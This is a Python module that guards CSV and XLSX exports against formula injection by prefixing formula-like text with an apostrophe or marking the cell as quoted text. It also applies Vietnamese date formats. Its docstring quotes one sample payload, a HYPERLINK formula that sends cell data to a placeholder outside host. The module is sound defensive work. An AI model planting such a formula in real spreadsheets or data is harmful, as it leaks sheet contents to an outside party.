"""Every CSV and XLSX file we hand out is safe to open in a spreadsheet (no formula injection).

A unit, procedure or person named ``=HYPERLINK("http://x.example/?"&A1,"Xem")`` must reach the
file as text, never as a live formula that leaks the sheet or runs when a unit head opens the
emulation workbook. Text that a spreadsheet would read as a formula (it starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return) is escaped as OWASP's "CSV injection" page advises:

* CSV: the value is prefixed with an apostrophe, which every spreadsheet shows as text;
* XLSX: the cell is stored as a string with Excel's "quote prefix" flag, so it is text even if a
  user edits it and presses Enter (openpyxl would otherwise store it as a formula).

Numbers stay numbers: only text is escaped.
"""

import csv
import datetime
import io
from collections.abc import Iterable

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Dates and times are written as Excel dates (sortable, filterable), shown the Vietnamese way.
DATE_FORMAT = "DD/MM/YYYY"
DATETIME_FORMAT = "DD/MM/YYYY HH:MM"


def format_dates(sheet) -> None:
    """Give every date or datetime cell of ``sheet`` the Vietnamese number format (``DATE_FORMAT``,
    ``DATETIME_FORMAT``); openpyxl's default is ISO ``yyyy-mm-dd h:mm:ss``."""
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, datetime.datetime):
                cell.number_format = DATETIME_FORMAT
            elif isinstance(cell.value, datetime.date):
                cell.number_format = DATE_FORMAT


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def safe_csv_value(value):
    """``value`` for a CSV cell: text that would be a formula gets a leading apostrophe."""
    return f"'{value}" if is_formula_like(value) else value


def csv_text(rows: Iterable[Iterable], **writer_options) -> str:
    """Rows written as CSV text, every text cell escaped."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, **writer_options)
    for row in rows:
        writer.writerow([safe_csv_value(value) for value in row])
    return buffer.getvalue()


def neutralise_workbook(workbook) -> None:
    """Turn every text cell of ``workbook`` that a spreadsheet would read as a formula into text.

    Call it just before saving: it sees every cell, whichever helper wrote it. Our exports write
    no formulas of their own, so a cell openpyxl marked as one can only be text we were given.
    """
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or is_formula_like(cell.value):
                    cell.data_type = "s"
                    cell.quotePrefix = True
